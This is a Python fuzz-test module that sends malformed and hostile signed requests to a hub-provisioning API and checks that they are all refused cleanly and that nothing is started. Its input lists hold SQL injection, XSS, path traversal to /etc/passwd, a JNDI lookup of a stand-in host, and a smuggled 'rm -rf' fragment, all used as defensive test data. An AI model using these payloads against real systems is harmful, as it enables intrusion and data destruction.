"""Hostile and malformed requests against the real HTTP API on the local stack, every one correctly signed so it
reaches the app: none may crash it (5xx), every answer is the API's documented error shape (docs/openapi.json),
and nothing is started or recorded.

Every POST /hubs body is checked locally, with the API's own code and the stack's settings, not to be a valid
request before it is sent: a valid one would start a provisioning.
"""
from __future__ import annotations

import base64
import json
import string
from collections import Counter
from datetime import date, timedelta
from functools import cache
from urllib.parse import quote, urlencode

import jsonschema
import pytest
from hypothesis import HealthCheck, assume, given, settings
from hypothesis import strategies as st

from chalicelib import api_input, hub_records
from chalicelib.api_errors import ApiError
from chalicelib.hub_request import HubChanges, HubRequest
from chalicelib.settings import Settings
from coursehub import openapi
from coursehub.api_client import ApiClient
from coursehub.demo import sample_request
from coursehub_local.api_gateway import MAX_URL_CHARACTERS

MIN_REQUESTS = 500
SENT: list[tuple[int, str]] = []  # (status, request) of every request sent by this module
VALIDATION_CODES = {"InvalidRequest", "InvalidBody", "InvalidHubId", "InvalidQuery", "InvalidIdempotencyKey"}
FUZZ = settings(deadline=None, derandomize=True, database=None, print_blob=False,
                suppress_health_check=[HealthCheck.too_slow, HealthCheck.filter_too_much, HealthCheck.data_too_large])
SAMPLE = sample_request()


# --- the run -----------------------------------------------------------------------------------------------------

BEFORE: dict = {}  # executions and table items when the module started


@pytest.fixture(scope="module")
def api(stack, request):
    """A signed client of the stack's API; once the module's tests are done, nothing may have started or changed."""
    BEFORE.update(_state(stack))
    assert HubRequest.parse(SAMPLE, _settings().limits(), _settings().request_defaults())  # the base is valid
    yield ApiClient.local(stack.details())
    selected = {item.originalname for item in request.session.items if item.path == request.path}
    nothing_started_after_the_fuzz(stack, every_test_ran=selected >= {t for t in vars(request.module)
                                                                       if t.startswith("test_")})


def _state(stack) -> dict:
    """Each state machine's executions and each table's items."""
    sfn, dynamodb, env = stack.client("stepfunctions"), stack.client("dynamodb"), stack.seeded.environment
    state = {}
    for workflow in ("provision", "teardown"):
        pages = sfn.get_paginator("list_executions").paginate(stateMachineArn=stack.seeded.state_machines[workflow])
        state[workflow] = sorted(e["executionArn"] for page in pages for e in page["executions"])
    for table in ("HUB_TABLE_NAME", "IDEMPOTENCY_TABLE_NAME"):
        items = dynamodb.scan(TableName=env[table])["Items"]
        state[table] = sorted(json.dumps({k: v for k, v in item.items() if k not in BACKGROUND}, sort_keys=True)
                              for item in items)
    return state


# What earlier tests' hubs write meanwhile on their own: an ECR hub's scheduled login renewals.
BACKGROUND = ("registry_login", "updated_at")


@cache
def _settings() -> Settings:
    return Settings.from_env()  # the stack's stage settings, as the API reads them


@cache
def _document() -> dict:
    return openapi.document()


@cache
def _validator(method: str, route: str, status: int) -> jsonschema.Draft202012Validator:
    schema = openapi.answer_schema(_document(), method, route, status)
    assert schema is not None, f"{method} {route} answered {status}, which docs/openapi.json does not document"
    return jsonschema.Draft202012Validator(schema)


def send(api: ApiClient, method: str, route: str, path: str, *, raw: bytes | None = None,
         headers: dict | None = None, query: dict | None = None) -> dict:
    """Send one signed request and check the answer; returns its body."""
    answer = api.call(method, path, raw=raw, headers=headers, query=query, check=False)
    shown = f"{method} {path[:200]} query={str(query)[:200]} headers={str(headers)[:200]}" + (
        f" body={raw[:300]!r} ({len(raw)} bytes)" if raw is not None else "")
    SENT.append((answer.status, shown))
    body = answer.body
    assert answer.status < 500, f"{answer.status} {body} for {shown}"
    assert answer.status != 403, f"the gateway refused a signed request ({body}): {shown}"
    if answer.status >= 300:
        assert isinstance(body, dict) and isinstance(body.get("code"), str) and isinstance(body.get("message"), str), \
            f"{answer.status} {body!r} is not the error shape, for {shown}"
    if answer.status == 400 and body["code"] in VALIDATION_CODES:
        assert isinstance(body.get("field"), str) and body["field"], f"no field in {body} for {shown}"
    errors = sorted(_validator(method, route, answer.status).iter_errors(body), key=str)
    assert not errors, f"{answer.status} {body} does not match docs/openapi.json: {errors[0].message}; {shown}"
    return {"status": answer.status, **(body if isinstance(body, dict) else {})}


# --- what to send --------------------------------------------------------------------------------------------------

HOSTILE_TEXT = st.one_of(
    st.sampled_from([
        "'; DROP TABLE hubs; --", "\" OR \"1\"=\"1", "<script>alert(1)</script>", "javascript:alert(1)",
        "../../../../etc/passwd", "..\\..\\windows\\win.ini", "%2e%2e%2f%2e%2e%2f", "${jndi:ldap://x.example/a}",
        "{{7*7}}", "%s%s%n", "\x00", "a\x00b", "\r\nX-Injected: 1", "\u202egnp.exe", "\ufeff", "İı", "ﬁ", "😀" * 40,
        "", " ", "\t\n", "null", "NaN", "-1", "__proto__", "constructor",
    ]),
    st.text(max_size=40),  # any code point but lone surrogates: control characters, RTL marks, emoji, ...
    st.text(st.characters(categories=["Cc", "Cf", "Zs", "Zl", "Cs"]), min_size=1, max_size=20),
    st.integers(1_000, 60_000).map(lambda n: "x" * n),
    st.integers(200, 5_000).map(lambda n: "é😀" * n),
)
# In a URL or a header: UTF-8 (no lone surrogates) and within the request-line limits of HTTP servers (~8 KB).
URL_TEXT = HOSTILE_TEXT.filter(lambda t: not any("\ud800" <= c <= "\udfff" for c in t) and len(quote(t)) <= 6000)
JUNK_JSON = st.recursive(
    st.none() | st.booleans() | st.integers() | st.floats() | HOSTILE_TEXT,
    lambda inner: st.lists(inner, max_size=4) | st.dictionaries(HOSTILE_TEXT, inner, max_size=4), max_leaves=12)
DEEP = st.integers(50, 400).map(lambda depth: json.loads("[" * depth + "]" * depth))
NUMBERS = st.sampled_from([-1, -(2 ** 63), 2 ** 63, 10 ** 30, 1.5, -0.5, 1e308, float("inf"), float("nan")]) \
    | st.integers(max_value=-1) | st.integers(min_value=10 ** 6) | st.floats().filter(lambda f: not f.is_integer())
BAD_DATES = st.sampled_from(["2027-02-30", "2027-13-01", "0000-00-00", "yesterday", "28/05/2027", "2027-5-28",
                             "2027-05-28T25:00", date.today().isoformat(), "1970-01-01", "9999-12-31"]) \
    | st.integers(271, 100_000).map(lambda d: (date.today() + timedelta(days=d)).isoformat()) \
    | st.integers(0, 3_000).map(lambda d: (date.today() - timedelta(days=d)).isoformat())
BAD_ZONES = st.sampled_from(["Mars/Olympus_Mons", "UTC+25", "GMT+99", "../../../etc/localtime", "/etc/localtime",
                             "America/New_York\x00", "America//New_York", "Europe/", "local", "EST5EDT,M3"]) \
    | HOSTILE_TEXT
STRING_FIELDS = ("course_id", "domain", "binder_host", "hub_host", "hosted_zone_id", "term_end", "timezone",
                 "kubernetes_version", "cors_origin", "image_builder", "image_prefix", "acme_email",
                 "dockerhub_secret_arn", "nodes.instance_type", "chart_versions.binderhub", "scaling.down_at")
NUMBER_FIELDS = ("nodes.min_size", "nodes.desired_size", "nodes.max_size", "culling.timeout", "culling.every",
                 "culling.max_age", "reminder_days")
REQUIRED = ("course_id", "domain", "term_end", "acme_email")
NESTED_UNKNOWN = ("nodes.gpu", "culling.forever", "scaling.sunday", "chart_versions.jupyterhub")


def _with(body: dict, dotted: str, value) -> dict:
    """``body`` with the field at ``dotted`` (``nodes.max_size``) set to ``value``."""
    out = json.loads(json.dumps(body))
    *parents, last = dotted.split(".")
    node = out
    for name in parents:
        if not isinstance(node.get(name), dict):
            node[name] = {}
        node = node[name]
    node[last] = value
    return out


@st.composite
def broken_requests(draw) -> dict:
    """The sample request with at least one field broken."""
    kind = draw(st.sampled_from(["missing", "unknown", "wrong type", "hostile string", "number", "date", "zone",
                                 "stage limits", "nested junk", "several"]))
    body = dict(SAMPLE)
    if kind == "missing":
        for name in draw(st.lists(st.sampled_from(REQUIRED), min_size=1, unique=True)):
            body.pop(name)
    elif kind == "unknown":
        name = draw(HOSTILE_TEXT.filter(lambda n: n not in HubRequest.model_fields) | st.sampled_from(NESTED_UNKNOWN))
        body = _with(body, name, draw(JUNK_JSON)) if name in NESTED_UNKNOWN else {**body, name: draw(JUNK_JSON)}
    elif kind == "wrong type":
        field = draw(st.sampled_from(STRING_FIELDS + NUMBER_FIELDS + ("nodes", "culling", "scaling", "acme_staging")))
        body = _with(body, field, draw(st.one_of(st.lists(JUNK_JSON, max_size=3), st.dictionaries(
            HOSTILE_TEXT, JUNK_JSON, max_size=3), st.just(float("nan")))))
    elif kind == "hostile string":
        body = _with(body, draw(st.sampled_from(STRING_FIELDS)), draw(HOSTILE_TEXT))
    elif kind == "number":
        body = _with(body, draw(st.sampled_from(NUMBER_FIELDS)), draw(NUMBERS | HOSTILE_TEXT))
    elif kind == "date":
        body = _with(body, "term_end", draw(BAD_DATES | NUMBERS))
    elif kind == "zone":
        body = _with(body, "timezone", draw(BAD_ZONES))
    elif kind == "stage limits":
        limits = _settings().limits()
        if draw(st.booleans()):
            body = _with(body, "nodes.instance_type", draw(st.sampled_from(
                ["p4d.24xlarge", "m5.metal", "t2.nano", "M5.LARGE", "m5.large ", "m5.large\x00", "m5.*"])))
        else:
            top = draw(st.integers(limits.max_nodes + 1, 100_000))
            body = _with(body, "nodes", {**SAMPLE["nodes"], "max_size": top, "desired_size": top})
        if draw(st.booleans()):
            body = _with(body, "kubernetes_version", draw(st.sampled_from(["1.20", "latest", "1.99", "2"])))
    elif kind == "nested junk":
        body = _with(body, draw(st.sampled_from(["nodes", "culling", "scaling", "chart_versions", "course_id"])),
                     draw(DEEP | JUNK_JSON))
    else:
        for _ in range(draw(st.integers(2, 5))):
            body = _with(body, draw(st.sampled_from(STRING_FIELDS + NUMBER_FIELDS)), draw(JUNK_JSON))
    return body


def _accepted(raw: bytes) -> bool:
    """Whether the API would accept ``raw`` as a hub request (same code, same settings)."""
    try:
        api_input.parse_request(api_input.json_object(raw), _settings())
    except (ApiError, RecursionError):  # RecursionError: json.loads of a body nested too deeply
        return False
    return True


NOT_JSON = st.one_of(
    st.sampled_from([b"", b"{", b"}", b"[", b"{'course_id': 'cs101'}", b"\xff\xfe\x00", b"\x00" * 64,
                     b"{\"course_id\": }", b"NaN", b"undefined", b"course_id=cs101&domain=x", b"<xml/>",
                     b"\xef\xbb\xbf", b"\"\\ud800\"", b"{\"a\":1}{\"b\":2}"]),
    st.binary(min_size=1, max_size=200),
    st.integers(1, 400).map(lambda cut: json.dumps(SAMPLE).encode()[:cut]),  # truncated
    st.sampled_from([b" trailing", b"\x00", b",", b"]"]).map(lambda tail: json.dumps(SAMPLE).encode() + tail),
    st.sampled_from(["nodes\": {\"max_size", "reminder_days", "culling\": {\"timeout"]).map(  # > 4300 digits
        lambda name: json.dumps({**SAMPLE, "x": 0}).replace('"x": 0', f'"{name}": 1{"0" * 5000}' + "}" * name.count(
            "{")).encode()),
    st.tuples(st.integers(1_000, 100_000), st.sampled_from([(b"[", b"]"), (b'{"a":', b"}")])).map(  # too deep
        lambda t: t[1][0] * t[0] + (b"1" if t[1][0] == b'{"a":' else b"") + t[1][1] * t[0]),
)
NOT_OBJECT = st.one_of(st.lists(JUNK_JSON, max_size=3), st.none(), st.booleans(), st.integers(), st.floats(),
                       HOSTILE_TEXT, st.just([SAMPLE])).map(lambda v: json.dumps(v).encode())
HUB_IDS = st.one_of(
    st.sampled_from(["..", ".", "%", "hub-CS101", "HUB-X", "-hub", "hub_x", "hub-" + "a" * 45, " hub-x", "hub-x ",
                     "hub-x\x00", "null", "undefined", "*", "hub-%00", "hub-x;rm -rf", "hub-x/../../etc"]),
    URL_TEXT.filter(bool),
    st.text(string.ascii_lowercase + string.digits + "-", min_size=49, max_size=2000),
    st.from_regex(r"\Afuzz-[a-z0-9-]{0,40}\Z"),  # well-formed, but no such hub
)
ODD_CONTENT_TYPES = st.sampled_from([
    "text/plain", "application/x-www-form-urlencoded", "multipart/form-data; boundary=x", "application/xml",
    "application/json; charset=utf-16", "APPLICATION/JSON", "application/jsonx", "application/json, text/html",
    "*/*", "", "application/problem+json", "application/json;;;", "\x7f", "é/é",
])


def _path(hub_id: str) -> str:
    return quote(hub_id, safe="") if hub_id not in (".", "..") else hub_id


# --- the tests -----------------------------------------------------------------------------------------------------

@settings(FUZZ, max_examples=260)
@given(body=broken_requests(), key=st.none() | st.text(string.ascii_letters + string.digits, min_size=1, max_size=40))
def test_a_request_with_a_broken_field_is_refused_naming_the_field(api, body, key):
    raw = json.dumps(body).encode()
    assume(not _accepted(raw))
    answer = send(api, "POST", "/hubs", "/hubs", raw=raw, headers={"Idempotency-Key": key} if key else {})
    # A lone surrogate (HOSTILE_TEXT draws them) is refused for the whole body, before any field is read.
    expected = "InvalidBody" if _lone_surrogate(json.loads(raw)) else "InvalidRequest"  # as the API decodes it
    assert answer["status"] == 400 and answer["code"] == expected, answer


def _lone_surrogate(body: dict) -> bool:
    try:
        json.dumps(body, ensure_ascii=False).encode("utf-8")
    except UnicodeEncodeError:
        return True
    return False


@settings(FUZZ, max_examples=100)
@given(raw=NOT_JSON | NOT_OBJECT)
def test_a_body_that_is_not_a_json_object_is_refused(api, raw):
    assume(not _accepted(raw))
    answer = send(api, "POST", "/hubs", "/hubs", raw=raw)
    assert answer["status"] == 400 and answer["code"] in ("InvalidBody", "InvalidRequest"), answer


# Empty, too long, with spaces, control characters or any UTF-8 (as the latin-1 text HTTP headers carry; CR and LF
# cannot be sent at all).
IDEMPOTENCY_KEYS = st.sampled_from(["", " ", "k" * 129, "k" * 5000, "clé", "a b", "a\tb", "\x7f", "\xa0", "\x01key",
                                    "ok"]) \
    | st.text(max_size=30).map(lambda t: t.encode().decode("latin-1")).filter(lambda t: not {"\r", "\n"} & set(t))


@settings(FUZZ, max_examples=60)
@given(raw=st.one_of(broken_requests().map(lambda b: json.dumps(b).encode()), NOT_JSON),
       content_type=ODD_CONTENT_TYPES, key=st.none() | IDEMPOTENCY_KEYS)
def test_hostile_headers_are_refused(api, raw, content_type, key):
    assume(not _accepted(raw))
    headers = {"Content-Type": content_type, **({"Idempotency-Key": key} if key is not None else {})}
    answer = send(api, "POST", "/hubs", "/hubs", raw=raw, headers=headers)
    assert answer["status"] in (400, 415), answer


@settings(FUZZ, max_examples=160)
@given(hub_id=HUB_IDS, method=st.sampled_from(["GET", "PATCH", "DELETE", "POST"]),
       body=st.none() | st.just({"reminder_days": 3}) | JUNK_JSON.map(json.dumps).map(str.encode))
def test_a_hostile_hub_id_is_refused_or_not_found(api, hub_id, method, body):
    route = "/hubs/{hub_id}/retry" if method == "POST" else "/hubs/{hub_id}"
    path = route.replace("{hub_id}", _path(hub_id))
    raw = json.dumps(body).encode() if isinstance(body, dict) else body if method == "PATCH" else None
    answer = send(api, method, route, path, raw=raw)
    assert answer["status"] in (400, 404), answer


@settings(FUZZ, max_examples=80)
@given(hub_id=st.from_regex(r"\Afuzz-[a-z0-9]{1,20}\Z") | HUB_IDS,
       body=st.one_of(JUNK_JSON, NOT_JSON, st.dictionaries(st.sampled_from(list(HubChanges.model_fields) + [
           "nodes.min_size", "course_id", "status", "instance_type"]), JUNK_JSON, max_size=4),
           st.sampled_from([{}, {"nodes": None}, {"nodes": {"max_size": 0}}, {"term_end": "2020-01-01"},
                            {"reminder_days": 61}, {"scaling": {"down_at": "25:00"}}])))
def test_a_junk_change_is_refused_or_not_found(api, hub_id, body):
    raw = body if isinstance(body, bytes) else json.dumps(body).encode()
    answer = send(api, "PATCH", "/hubs/{hub_id}", f"/hubs/{_path(hub_id)}", raw=raw)
    assert answer["status"] in (400, 404), answer


def _token(value) -> str:
    """A ``next`` token as the API makes them, of any JSON value."""
    return base64.urlsafe_b64encode(json.dumps(value).encode()).decode().rstrip("=")


NUMERALS = st.text(st.characters(categories=["Nd", "No", "Nl"]), min_size=1, max_size=5)  # '²', '٣', 'Ⅻ', ...
QUERY_VALUES = {
    "limit": st.sampled_from(["0", "101", "-1", "1.5", "1e3", "+5", " 5", "0x10", "²", "5" * 5000, "", "1", "100",
                              "007"]) | NUMERALS | URL_TEXT,
    "status": st.sampled_from(["ready", "READY ", "READY,FAILED", "", "%", *hub_records.STATUSES]) | URL_TEXT,
    "next": st.sampled_from(["", "=", "IiI", "bnVsbA", _token("hub-fuzz"), _token(["hub-x"]), _token("HUB"),
                             _token("a" * 300)]) | URL_TEXT.map(_token) | URL_TEXT,
}


@st.composite
def junk_queries(draw) -> dict:
    """Some of status, limit and next, mostly with junk values, sometimes with unknown parameters too."""
    names = draw(st.lists(st.sampled_from(sorted(QUERY_VALUES)), min_size=1, unique=True))
    query = {name: draw(QUERY_VALUES[name]) for name in names}
    if draw(st.integers(0, 3)) == 0:
        query.update(draw(st.dictionaries(URL_TEXT, URL_TEXT, min_size=1, max_size=2)))
    return query


@settings(FUZZ, max_examples=140)
@given(query=junk_queries())
def test_a_junk_query_is_refused(api, query):
    answer = send(api, "GET", "/hubs", "/hubs", query=query)
    if len(f"{api.url}/hubs?{urlencode(query)}") > MAX_URL_CHARACTERS:  # API Gateway's quota: refused at the door
        assert (answer["status"], answer["code"]) == (414, "REQUEST_URI_TOO_LONG"), answer
        return
    try:
        api_input.page_query(query)
    except ApiError as refused:
        assert (answer["status"], answer["code"], answer["field"]) == (400, "InvalidQuery", refused.field), answer
    else:  # a query of only good values is a page
        assert answer["status"] == 200 and isinstance(answer["hubs"], list), answer


def nothing_started_after_the_fuzz(stack, every_test_ran: bool) -> None:
    """Checked when the module's tests are done (a failure here is an error at the module's teardown)."""
    statuses = Counter(status for status, _ in SENT)
    print(f"\nAPI fuzz: {len(SENT)} signed requests, answered {dict(sorted(statuses.items()))}")
    if every_test_ran:
        assert len(SENT) >= MIN_REQUESTS, f"only {len(SENT)} requests sent (want {MIN_REQUESTS})"
    after = _state(stack)
    started = {workflow: sorted(set(after[workflow]) - set(BEFORE[workflow])) for workflow in ("provision", "teardown")}
    assert not any(started.values()), f"after {len(SENT)} requests, executions were started: {started}"
    # The stack is the session's: the hub table is empty when this module runs alone, as earlier tests left it else.
    assert after["HUB_TABLE_NAME"] == BEFORE["HUB_TABLE_NAME"], f"after {len(SENT)} requests, hubs were recorded"
    assert after["IDEMPOTENCY_TABLE_NAME"] == BEFORE["IDEMPOTENCY_TABLE_NAME"], "idempotency records were written"


